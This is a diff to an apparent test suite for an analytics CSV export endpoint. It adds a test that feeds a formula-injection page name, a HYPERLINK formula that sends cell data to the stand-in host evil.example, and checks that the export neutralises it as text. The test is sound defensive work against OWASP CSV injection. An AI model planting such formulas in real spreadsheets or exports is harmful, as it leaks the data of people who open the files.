@@ -72,6 +72,16 @@ describe('GET /api/export/events, bounded', () => {
     expect(second.headers['x-mesura-next']).toBeUndefined();
   });
 
+  it('writes a page name a spreadsheet would run as a formula as text (OWASP CSV injection)', async () => {
+    const pageName = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
+    const hit = testHit({ pageName, visitor: { fid: '1F65FB944AFA1C05-25FBFAF16BF6E758' } });
+    expect((await t.server.app.inject({ url: beaconUrl(hit), headers: { 'user-agent': BROWSER_UA } })).statusCode).toBe(200);
+    const answer = await get(`/api/export/events?${RANGE}&format=csv`);
+    expect(answer.statusCode, answer.body).toBe(200);
+    expect(answer.body).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",`);
+    expect(answer.body).not.toMatch(/(^|,)=HYPERLINK/m);
+  });
+
   it.each([
     ['limit=0', `limit must be an integer from 1 to ${EXPORT_MAX_ROWS}`],
     [`limit=${EXPORT_MAX_ROWS + 1}`, `limit must be an integer from 1 to ${EXPORT_MAX_ROWS}`],
